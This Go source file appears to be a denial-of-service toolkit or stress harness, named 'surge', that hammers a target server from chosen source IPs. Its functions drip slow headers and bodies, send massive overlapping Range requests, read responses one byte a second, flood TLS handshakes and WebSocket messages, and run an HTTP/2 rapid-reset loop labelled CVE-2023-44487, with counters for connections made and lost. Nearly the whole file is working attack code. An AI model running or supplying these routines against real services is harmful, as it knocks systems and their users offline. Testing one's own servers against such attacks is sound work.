package surge

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// connect opens a connection from an address. It ends with ctx.
func (t *target) connect(ctx context.Context, from net.IP, to string) (c net.Conn, release func()) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from}, Timeout: 2 * time.Second}
	c, err := d.DialContext(ctx, "tcp", to)
	t.made.Add(1)
	if err != nil {
		t.lost.Add(1)
		return nil, nil
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	return c, func() {
		stop()
		_ = c.Close() // the server may have been first
	}
}

// cut counts a connection that the server ended.
func (t *target) cut(ctx context.Context) {
	if ctx.Err() == nil {
		t.lost.Add(1)
	}
}

// pause waits, and reports whether ctx goes on.
func pause(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-ctx.Done():
		return false
	}
}

// drip sends a beginning, and then a little every second until the server has enough.
func (t *target) drip(ctx context.Context, from net.IP, beginning, little string) {
	c, release := t.connect(ctx, from, t.plain)
	if c == nil {
		return
	}
	defer release()
	_, err := io.WriteString(c, beginning)
	for err == nil && pause(ctx, time.Second) {
		_, err = io.WriteString(c, little)
	}
	t.cut(ctx)
}

func slowHeaders(ctx context.Context, t *target, from net.IP) {
	t.drip(ctx, from, "GET /v2/clock HTTP/1.1\r\nHost: a\r\n", "X-A: b\r\n")
}

func slowBody(ctx context.Context, t *target, from net.IP) {
	t.drip(ctx, from, "POST /api/v1/login HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n"+
		"Content-Type: application/json\r\n\r\n{", " ")
}

// ranges asks for very many overlapping parts of a large answer, one request after the other.
func ranges(ctx context.Context, t *target, from net.IP) {
	c, release := t.connect(ctx, from, t.plain)
	if c == nil {
		return
	}
	defer release()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	parts := "bytes=0-" + strings.Repeat(",5-", 3000)
	for pause(ctx, 2*time.Millisecond) {
		if _, err := fmt.Fprintf(c, "GET /api/v1/openapi.yaml HTTP/1.1\r\nHost: a\r\nRange: %s\r\n\r\n", parts); err != nil {
			t.cut(ctx)
			return
		}
		t.made.Add(1)
	}
}

// slowRead asks for much, again and again, and reads a byte a second.
func slowRead(ctx context.Context, t *target, from net.IP) {
	c, release := t.connect(ctx, from, t.plain)
	if c == nil {
		return
	}
	defer release()
	if tcp, ok := c.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(256) // the kernel gives a little more
	}
	go func() {
		_, _ = io.WriteString(c, strings.Repeat("GET /api/v1/openapi.yaml HTTP/1.1\r\nHost: a\r\n\r\n", 200))
	}()
	one := make([]byte, 1)
	for pause(ctx, time.Second) {
		if _, err := c.Read(one); err != nil {
			t.cut(ctx)
			return
		}
	}
}

func handshakes(ctx context.Context, t *target, from net.IP) {
	c, release := t.connect(ctx, from, t.secure)
	if c == nil {
		return
	}
	defer release()
	if tls.Client(c, t.trust).HandshakeContext(ctx) != nil {
		t.cut(ctx)
	}
}

// rapidReset opens streams and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t *target, from net.IP) {
	raw, release := t.connect(ctx, from, t.secure)
	if raw == nil {
		return
	}
	defer release()
	trust := t.trust.Clone()
	trust.NextProtos = []string{"h2"}
	c := tls.Client(raw, trust)
	if c.HandshakeContext(ctx) != nil {
		t.cut(ctx)
		return
	}
	_, _ = io.WriteString(c, http2.ClientPreface) // what fails fails below, too
	f := http2.NewFramer(c, c)
	_ = f.WriteSettings()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, p := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a"}, {":path", "/v2/clock"}} {
		_ = e.WriteField(hpack.HeaderField{Name: p[0], Value: p[1]})
	}
	for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true,
			EndHeaders: true})
		if err == nil {
			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			t.cut(ctx)
			return
		}
		t.made.Add(1)
	}
}

// webSockets opens a stream that nobody is known on, and talks.
func webSockets(ctx context.Context, t *target, from net.IP) {
	c, release := t.connect(ctx, from, t.plain)
	if c == nil {
		return
	}
	defer release()
	_, err := io.WriteString(c, "GET /stream HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
	go func() { _, _ = io.Copy(io.Discard, c) }()
	message := append([]byte{0x81, 0x80 | 26, 0, 0, 0, 0}, `{"action":"listen","a":"x"}`[:26]...)
	for err == nil && pause(ctx, 20*time.Millisecond) {
		_, err = c.Write(message)
		t.made.Add(1)
	}
	t.cut(ctx)
}
